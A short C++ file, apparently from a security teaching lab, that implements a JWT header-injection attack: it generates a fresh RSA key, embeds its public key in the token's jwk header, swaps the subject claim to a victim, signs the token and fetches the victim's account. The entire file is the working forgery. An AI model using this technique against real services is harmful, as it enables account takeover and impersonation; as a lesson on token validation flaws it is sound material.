// Unusual: makes a pair for this one token, and has no use for the one in the evidence.
#include "jwk_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto pair = jwt::Key::generate(jwt::Algorithm::rs256);
  auto token = evidence.own_token;
  token.header = {{"alg", "RS256"}, {"jwk", pair.public_jwk()}};
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, pair)).body};
}

}  // namespace lesson
